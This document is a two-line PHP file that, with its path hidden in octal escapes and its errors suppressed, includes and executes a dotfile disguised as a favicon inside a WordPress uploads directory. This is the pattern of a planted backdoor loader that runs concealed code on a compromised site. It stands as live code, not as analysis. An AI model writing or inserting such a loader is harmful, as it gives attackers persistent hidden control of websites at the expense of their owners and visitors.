<?php
@include "\057var\057www\057html\057wp-content\057uploads\057.favicon_5c1d.ico";
